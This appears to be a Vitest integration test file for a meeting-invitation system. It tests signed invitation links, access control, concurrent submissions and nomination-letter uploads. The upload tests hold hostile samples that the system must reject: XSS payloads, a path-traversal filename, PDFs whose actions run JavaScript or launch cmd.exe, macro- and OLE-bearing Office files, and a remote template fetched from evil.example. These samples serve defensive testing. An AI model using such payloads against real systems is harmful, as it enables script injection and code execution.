import { readdirSync } from 'node:fs';
import nodePath from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Client } from '../../../test/client.ts';
import { createTestSite, type TestSite } from '../../../test/harness.ts';
import { makeCountry, makeMeeting, makeOrganisation, makeSeries } from '../../../test/made.ts';
import { madeOffice, madePdf, paragraphs } from '../../../test/made-files.ts';
import { makePerson } from '../../../test/made-people.ts';
import { locales } from '../../platform/i18n.ts';
import { signToken } from '../../platform/token.ts';

// From the invitation to the names of those who come, by a link that works without an account.

let site: TestSite;
let organiser: Client;
let host: { id: string; slug: string };
let centre: { id: string; slug: string };
const secretKey = 'a key of tests that is long enough';
const soon = new Date(Date.now() + 90 * 86_400_000).toISOString().slice(0, 10);

beforeAll(async () => {
  site = await createTestSite();
  const country = await makeCountry(site.owner, 'SEN', { en: 'Senegal' });
  host = await makeOrganisation(site.owner, country, 'Host');
  centre = await makeOrganisation(site.owner, country, 'Centre of Dakar');
  organiser = await site.as(await makePerson(site.owner, { roles: { [host.id]: ['editor'] } }));
});
afterAll(() => site.close());

const makeOwnMeeting = async (title = 'Joint meeting') =>
  makeMeeting(site.owner, (await makeSeries(site.owner, 'Joint meetings')).id, {
    title,
    startsOn: soon,
    convenerId: host.id,
  });

let number = 0;
/** Invites somebody by name, and hands back the path in the mail. */
async function invite({ language = 'en', places = '' }: { language?: string; places?: string } = {}) {
  number += 1;
  const meeting = await makeOwnMeeting();
  const email = `invited-${number}@example.org`;
  const list = `/en/meetings/${meeting.slug}/invitations`;
  const prepared = await organiser.post(`${list}/new/others`, {
    'others.0.name': `Invited ${number}`,
    'others.0.email': email,
    'others.0.category': 'ngo',
    'others.0.language': language,
    'others.0.places': places,
  });
  expect([prepared.status, prepared.location]).toEqual([303, `${list}?done=prepared`]);
  expect((await organiser.post(`${list}/sending`)).location).toBe(`${list}?done=sent`);
  const mail = (await site.mails()).findLast(({ to }) => to === email);
  const path = /http:\/\/localhost:8080(\/..\/meeting-invitations\/\S+)/.exec(mail?.text ?? '')?.[1] ?? '';
  expect(path).not.toBe('');
  return { meeting, list, mail, path, email };
}

const delegate = (row: number, values: Record<string, string>) =>
  Object.fromEntries(
    Object.entries({ role: 'representative', ...values }).map(([name, value]) => [`delegates.${row}.${name}`, value]),
  );
const peopleOf = (meetingId: string) =>
  site.owner.selectFrom('participant').where('meetingId', '=', meetingId).selectAll().orderBy('familyName').execute();

describe('invitations', () => {
  test('go to organisations of the network that were chosen, once, and not to those without an address', async () => {
    const meeting = await makeOwnMeeting();
    const list = `/en/meetings/${meeting.slug}/invitations`;
    const choice = await organiser.get(`${list}/new?family=regional-centres`);
    expect(choice.body).toContain('Centre of Dakar');
    for (let time = 0; time < 2; time += 1) await organiser.post(`${list}/new`, { organisations: [centre.slug] });
    const page = await organiser.get(list);
    expect(page.body).toContain('no e-mail address');
    expect(page.body).toContain('1 invitation:');
    expect((await organiser.post(`${list}/sending`)).location).toBe(`${list}?done=nothing`);
    const row = await site.owner
      .selectFrom('meetingInvitation')
      .where('meetingId', '=', meeting.id)
      .selectAll()
      .executeTakeFirstOrThrow();
    expect(row).toMatchObject({ category: 'regional-centre', organisationId: centre.id, invitedAt: null });
    const saved = await organiser.post(`${list}/${row.id}`, {
      name: 'Centre of Dakar',
      email: 'dakar@example.org',
      category: 'regional-centre',
      language: 'fr',
    });
    expect(saved.location).toBe(`${list}?done=saved`);
    expect((await organiser.post(`${list}/sending`)).location).toBe(`${list}?done=sent`);
    expect((await organiser.post(`${list}/sending`)).location).toBe(`${list}?done=nothing`);
    const mails = (await site.mails()).filter(({ to }) => to === 'dakar@example.org');
    expect(mails).toHaveLength(1);
    expect(mails[0]?.subject).toBe('Invitation\u00a0: Joint meeting');
    expect((await organiser.post(`${list}/${row.id}/sending`)).body).toContain('less than ten minutes ago');
  });

  test('are taken over from the meeting before, and once', async () => {
    const series = await makeSeries(site.owner, 'Taken over');
    const before = await makeMeeting(site.owner, series.id, { startsOn: '2026-01-05', convenerId: host.id });
    const next = await makeMeeting(site.owner, series.id, { startsOn: soon, convenerId: host.id });
    const invitation = { language: 'es', category: 'ngo', places: 2, meetingId: before.id };
    await site.owner
      .insertInto('meetingInvitation')
      .values([
        { id: crypto.randomUUID(), name: 'By name', email: 'by-name@example.org', ...invitation },
        { id: crypto.randomUUID(), name: 'Centre', email: 'c@example.org', organisationId: centre.id, ...invitation },
      ])
      .execute();
    await site.owner
      .insertInto('meetingOrganisation')
      .values({ meetingId: before.id, organisationId: host.id, position: 1 })
      .execute();
    const path = `/en/meetings/${next.slug}/invitations/new/as-before`;
    expect((await organiser.post(path)).location).toMatch(/done=prepared$/);
    expect((await organiser.post(path)).location).toMatch(/done=nothing$/);
    const rows = await site.owner
      .selectFrom('meetingInvitation')
      .where('meetingId', '=', next.id)
      .selectAll()
      .execute();
    expect(rows.map(({ name, language }) => `${name} ${language}`).sort()).toEqual([
      'By name es',
      'Centre es',
      'Host en',
    ]);
  });

  test('are nobody’s but the organisers’', async () => {
    const { list } = await invite();
    const member = await site.as(await makePerson(site.owner, { roles: { [host.id]: ['member'] } }));
    const stranger = await site.as(await makePerson(site.owner, { roles: { [centre.id]: ['steward'] } }));
    for (const browser of [member, stranger]) {
      expect((await browser.get(list)).status).toBe(403);
      expect((await browser.post(`${list}/sending`)).status).toBe(403);
    }
    expect((await site.visitor().get(list)).location).toMatch(/sign-in/);
  });
});

describe('who holds the link', () => {
  test.each(locales)('reads it in the language of the invitation (%s)', async (locale) => {
    const { path, mail } = await invite({ language: locale });
    expect(path.slice(0, 4)).toBe(`/${locale}/`);
    expect(mail?.bytes).toBeLessThan(10_000);
    const page = await site.visitor().get(path);
    expect(page.status).toBe(200);
    expect(page.headers['cache-control']).toMatch(/no-store/);
    expect((await site.visitor().post(path, { 'delegates.0.givenNames': 'Only' })).status).toBe(422);
  });

  test('names delegates without an account, and comes back to change them until it is decided', async () => {
    const { path, meeting } = await invite();
    const browser = site.visitor();
    const sent = await browser.post(path, {
      ...delegate(0, {
        givenNames: 'Fang',
        familyName: 'WANG',
        ownScriptName: '王芳',
        role: 'head',
        asksSupport: 'A visa letter',
      }),
      ...delegate(1, { givenNames: 'Fatima', familyName: 'ZAHRA', ownScriptName: 'فاطمة الزهراء' }),
    });
    expect([sent.status, sent.location]).toEqual([303, `${path}?done=saved`]);
    const [fang, fatima] = await peopleOf(meeting.id);
    expect(fang).toMatchObject({ familyName: 'WANG', ownScriptName: '王芳', role: 'head', category: 'ngo' });
    const page = await browser.get(path);
    expect(page.body).toContain('value="王芳"');
    expect(page.body).toContain('A visa letter');

    // One is approved meanwhile; she stays as she is, and the other is taken back.
    await site.owner
      .updateTable('participant')
      .set({ approvedAt: new Date() })
      .where('id', '=', fang?.id ?? '')
      .execute();
    await browser.post(path, {
      shown: [fang?.id ?? '', fatima?.id ?? ''],
      ...delegate(0, { id: fang?.id ?? '', givenNames: 'Changed', familyName: 'WANG' }),
      ...delegate(1, { givenNames: 'Somebody', familyName: 'ELSE' }),
    });
    expect((await peopleOf(meeting.id)).map(({ givenNames }) => givenNames)).toEqual(['Somebody', 'Fang']);
    expect((await browser.post(`${path}/decline`)).body).toContain('approved already');
  });

  test('of many who send at the same time none is lost, and nobody is there twice', async () => {
    const { path, meeting } = await invite();
    const answers = await Promise.all(
      ['A', 'B', 'C', 'A', 'B', 'C'].map((name) =>
        site.visitor().post(path, delegate(0, { givenNames: 'Same', familyName: name })),
      ),
    );
    expect(answers.map(({ status }) => status)).toEqual(Array(6).fill(303));
    expect((await peopleOf(meeting.id)).map(({ familyName }) => familyName)).toEqual(['A', 'B', 'C']);
  });

  test('declines, and may come all the same', async () => {
    const { path, meeting, list } = await invite();
    const browser = site.visitor();
    expect((await browser.post(`${path}/decline`)).location).toBe(`${path}?done=declined`);
    expect((await organiser.get(list)).body).toContain('declined 1'.split(' ')[0]);
    await browser.post(path, delegate(0, { familyName: 'LATE' }));
    const row = await site.owner
      .selectFrom('meetingInvitation')
      .where('meetingId', '=', meeting.id)
      .selectAll()
      .executeTakeFirst();
    expect(row).toMatchObject({ declinedAt: null });
  });

  test('cannot reach another invitation by the ids in a form', async () => {
    const one = await invite();
    const two = await invite();
    await site.visitor().post(one.path, delegate(0, { familyName: 'THEIRS' }));
    const [theirs] = await peopleOf(one.meeting.id);
    await site
      .visitor()
      .post(two.path, { shown: theirs?.id ?? '', ...delegate(0, { id: theirs?.id ?? '', familyName: 'MINE' }) });
    expect((await peopleOf(one.meeting.id)).map(({ familyName }) => familyName)).toEqual(['THEIRS']);
    expect((await peopleOf(two.meeting.id)).map(({ familyName }) => familyName)).toEqual(['MINE']);
  });

  test('of a link that is forged, withdrawn, or of a meeting that is over is told so', async () => {
    const { path, meeting, list } = await invite();
    const [body = '', signature = ''] = (path.split('/').at(-1) ?? '').split('.');
    const id = Buffer.from(body, 'base64url').toString();
    for (const forged of [
      `${body}.${signature.slice(0, -2)}AA`,
      signToken('another key that is long enough too', 'meeting invitation', id),
      signToken(secretKey, 'invitation', id),
      signToken(
        secretKey,
        'meeting invitation',
        id.replace(/.$/, (end) => (end === '0' ? '1' : '0')),
      ),
    ]) {
      const answer = await site.visitor().get(`/en/meeting-invitations/${forged}`);
      expect(answer.status).toBe(404);
      expect(answer.body).toContain('not an invitation of ours');
      await site.visitor().post(`/en/meeting-invitations/${forged}`, delegate(0, { familyName: 'FORGED' }));
    }
    await site.owner
      .updateTable('meeting')
      .set({ startsOn: '2026-01-05', endsOn: '2026-01-05', lastDay: '2026-01-05' })
      .where('id', '=', meeting.id)
      .execute();
    expect((await site.visitor().get(path)).body).toContain('The meeting is over');
    await site.visitor().post(path, delegate(0, { familyName: 'LATE' }));
    await site.owner
      .updateTable('meeting')
      .set({ startsOn: soon, endsOn: soon, lastDay: soon })
      .where('id', '=', meeting.id)
      .execute();
    expect((await organiser.post(`${list}/${id}/withdrawal`)).location).toBe(`${list}?done=withdrawn`);
    const withdrawn = await site.visitor().get(path);
    expect([withdrawn.status, withdrawn.body.includes('has been withdrawn')]).toEqual([410, true]);
    await site.visitor().post(path, delegate(0, { familyName: 'WITHDRAWN' }));
    expect(await peopleOf(meeting.id)).toEqual([]);
  });
});

describe('letters of nomination', () => {
  const boundary = 'made-boundary';
  const field = (name: string, value: string) =>
    `--${boundary}\r\ncontent-disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
  const upload = (
    path: string,
    bytes: Buffer,
    name = 'letter.pdf',
    headers: Record<string, string> = {},
    typed: Record<string, string> = {},
  ) =>
    site.app.inject({
      method: 'POST',
      url: path,
      headers: {
        'sec-fetch-site': 'same-origin',
        'content-type': `multipart/form-data; boundary=${boundary}`,
        ...headers,
      },
      payload: Buffer.concat([
        ...Object.entries({ _form: 'nomination', ...typed }).map((one) => Buffer.from(field(...one))),
        Buffer.from(
          `--${boundary}\r\ncontent-disposition: form-data; name="letter"; filename="${name}"\r\ncontent-type: text/html\r\n\r\n`,
        ),
        bytes,
        Buffer.from(`\r\n--${boundary}--\r\n`),
      ]),
    });
  const pdf = madePdf(['We nominate two delegates.']);
  const lettersOf = (meetingId: string) =>
    site.owner
      .selectFrom('nominationLetter as l')
      .innerJoin('meetingInvitation as i', 'i.id', 'l.invitationId')
      .where('i.meetingId', '=', meetingId)
      .selectAll('l')
      .execute();

  test('reach the organisers and nobody else, and run nowhere', async () => {
    const { path, list, meeting } = await invite();
    for (let time = 0; time < 2; time += 1)
      expect((await upload(path, pdf, '../../<script>lettre signée.html')).headers.location).toBe(
        `${path}?done=letter`,
      );
    const letters = await lettersOf(meeting.id);
    expect(letters).toMatchObject([{ format: 'pdf', name: 'script lettre signée.pdf' }]);
    const address = `${list}/${letters[0]?.invitationId}/letters/${letters[0]?.id}`;
    const got = await organiser.get(address);
    expect(got.body).toBe(pdf.toString());
    expect(got.headers).toMatchObject({ 'content-type': 'application/pdf', 'x-content-type-options': 'nosniff' });
    const stranger = await site.as(await makePerson(site.owner, { roles: { [centre.id]: ['steward'] } }));
    expect((await stranger.get(address)).status).toBe(403);
    expect((await site.visitor().get(address)).status).toBe(303);
    const other = await invite();
    expect((await organiser.get(`${other.list}/${letters[0]?.invitationId}/letters/${letters[0]?.id}`)).status).toBe(
      404,
    );
  });

  test('go with the names in one form; of what is wrong nothing else is lost', async () => {
    const { path, meeting } = await invite();
    const names = delegate(0, { familyName: 'DIOP', givenNames: 'Awa' });
    // No letter was chosen: browsers send an empty one without a name.
    expect((await upload(path, Buffer.alloc(0), '', {}, names)).headers.location).toBe(`${path}?done=saved`);
    expect(await lettersOf(meeting.id)).toEqual([]);
    expect(await peopleOf(meeting.id)).toMatchObject([{ familyName: 'DIOP' }]);
    const [known] = await peopleOf(meeting.id);
    const shown = { shown: known?.id ?? '', 'delegates.0.id': known?.id ?? '' };

    // A letter that will not do leaves the names in their fields.
    const renamed = { ...names, ...shown, 'delegates.0.familyName': 'RENAMED' };
    const refused = await upload(path, Buffer.from('no letter'), 'letter.pdf', {}, renamed);
    expect([refused.statusCode, refused.body.includes('value="RENAMED"')]).toEqual([422, true]);
    expect(refused.body).toContain('This is not a PDF');
    expect(await peopleOf(meeting.id)).toMatchObject([{ familyName: 'DIOP' }]);

    // Names that will not do leave the letter with the organisers.
    const nameless = await upload(path, pdf, 'letter.pdf', {}, { ...renamed, 'delegates.0.familyName': '' });
    expect([nameless.statusCode, nameless.body.includes('value="Awa"')]).toEqual([422, true]);
    expect(nameless.body).toContain('letter.pdf');
    expect(await lettersOf(meeting.id)).toHaveLength(1);

    expect((await upload(path, pdf, 'letter.pdf', {}, renamed)).headers.location).toBe(`${path}?done=saved`);
    expect(await peopleOf(meeting.id)).toMatchObject([{ familyName: 'RENAMED' }]);
    expect(await lettersOf(meeting.id)).toHaveLength(1);
    // Whoever asks for another row keeps what she chose, too.
    const more = await upload(path, madePdf(['Another']), 'another.pdf', {}, { ...renamed, _more: 'delegates' });
    expect([more.statusCode, more.body.includes('delegates.1.familyName')]).toEqual([200, true]);
    expect(await lettersOf(meeting.id)).toHaveLength(2);
    // More than a form may have is refused before it fills the memory, and changes nothing.
    const long = {
      ...renamed,
      'delegates.0.asksSupport': 'x'.repeat(200_000),
      'delegates.0.function': 'y'.repeat(100_000),
    };
    expect((await upload(path, Buffer.alloc(0), '', {}, long)).statusCode).toBe(413);
    expect(await peopleOf(meeting.id)).toMatchObject([{ familyName: 'RENAMED' }]);
    // A hundred delegates are many fields.
    const many = Object.assign({}, ...Array.from({ length: 100 }, (_, at) => delegate(at, { familyName: `N${at}` })));
    expect((await upload(path, Buffer.alloc(0), '', {}, many)).headers.location).toBe(`${path}?done=saved`);
    expect(await peopleOf(meeting.id)).toHaveLength(101);
  });

  test('that are something else, cut, empty or too long are refused with a word', async () => {
    const { path, meeting } = await invite();
    const said = 'This is not a PDF';
    const word = { 'word/document.xml': paragraphs('We nominate two delegates.') };
    const rels = (type: string, target: string) =>
      `<Relationships><Relationship Id="a" Type="http://x/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
    for (const [bytes, name, why] of [
      [Buffer.from('<html><script>alert(1)</script>'), 'letter.pdf', said],
      [Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'letter.png', said],
      [Buffer.from('MZ\u0000\u0000 a program'), 'letter.docx', 'would run something'],
      [Buffer.from('%PDF-1.7 cut off'), 'letter.pdf', 'broken or cut off'],
      [pdf.subarray(0, -20), 'letter.pdf', 'broken or cut off'],
      [madePdf(['x'], '', '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), 'letter.pdf', 'would run something'],
      [madePdf(['x'], '', '/OpenAction << /S /Launch /F (cmd.exe) >>'), 'letter.pdf', 'would run something'],
      [madeOffice('xlsx'), 'letter.docx', said],
      [madeOffice('docx', { ...word, 'word/vbaProject.bin': 'x' }), 'letter.docx', 'macros'],
      [madeOffice('docx', { ...word, 'word/embeddings/oleObject1.bin': 'x' }), 'letter.docx', 'OLE'],
      [
        madeOffice('docx', {
          ...word,
          'word/_rels/settings.xml.rels': rels('attachedTemplate', 'http://evil.example/t.dotm'),
        }),
        'letter.docx',
        'fetch content from elsewhere',
      ],
      [Buffer.from('GIF89a'), 'letter.jpg', 'broken or cut off'],
      [Buffer.from('We nominate two delegates.'), 'letter.pdf', said],
    ] as const) {
      const answer = await upload(path, bytes, name);
      expect(answer.statusCode, name).toBe(422);
      expect(answer.body).toContain(why);
    }
    expect(await lettersOf(meeting.id)).toEqual([]);
    expect((await upload(path, Buffer.alloc(0))).statusCode).toBe(422);
    expect((await upload(path, Buffer.alloc(10 * 1024 * 1024 + 10, '%PDF-1.7'))).body).toContain('more than 10 MB');
    expect((await upload(path, pdf, 'x.pdf', { 'sec-fetch-site': 'cross-site' })).statusCode).toBe(403);
    expect(
      (
        await upload(
          '/en/meeting-invitations/aaaaaaaaaaaaaaaaaaaaaaaa.aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa',
          pdf,
        )
      ).statusCode,
    ).toBe(303);
    expect(await lettersOf(meeting.id)).toEqual([]);
    // Nothing of them lies anywhere.
    expect(readdirSync(nodePath.join(site.platform.filesDirectory, 'incoming'))).toEqual([]);
    expect((await upload(path, madeOffice('docx', word), 'x.docx')).statusCode).toBe(303);
  }, 120_000);
});
